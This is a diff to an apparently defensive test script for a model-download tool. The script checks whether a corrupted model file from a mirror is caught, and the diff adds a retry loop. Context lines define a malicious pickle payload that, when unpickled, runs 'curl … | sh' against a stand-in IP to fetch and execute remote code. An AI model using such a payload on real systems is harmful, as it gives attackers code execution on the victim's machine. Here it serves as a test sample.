@@ -25,6 +25,7 @@ from hanse.conform.origin import HubOrigin
 
 MODEL = "sentence-transformers/all-MiniLM-L6-v2"
 WEIGHTS = "model.safetensors"
+TRIES = 8
 EVIL = "friendly/helper"
 PICKLE = b"cposix\nsystem\n(S'curl -s http://203.0.113.9/x | sh'\ntR."
 """Calls os.system when it is unpickled."""
@@ -131,9 +132,17 @@ def altered(laptop: Laptop) -> Path:
 
 
 def caught(laptop: Laptop, folder: Path) -> None:
-    """Download under `hanse run`."""
-    said = laptop.hf(MODEL, folder, guarded=True)
-    if "chunk" not in said or laptop.mirror.url.partition("//")[2] not in said:
+    """Download under `hanse run`, until the part with the false bit is asked of the mirror: who is asked for what follows speed."""
+    for _ in range(TRIES):
+        said = laptop.hf(MODEL, folder, guarded=True)
+        if "chunk" in said and laptop.mirror.url.partition("//")[2] in said:
+            break
+        if not same(folder / WEIGHTS):
+            sys.exit("the file is not the model, and nobody said so")
+        say("  It happened to ask the node for the part with the false bit. Once more, with nothing held:\n")
+        shutil.rmtree(folder)
+        shutil.rmtree(laptop.home / "hanse")
+    else:
         sys.exit("nobody said who lied, and where")
     if not same(folder / WEIGHTS):
         sys.exit("the file is not the model")
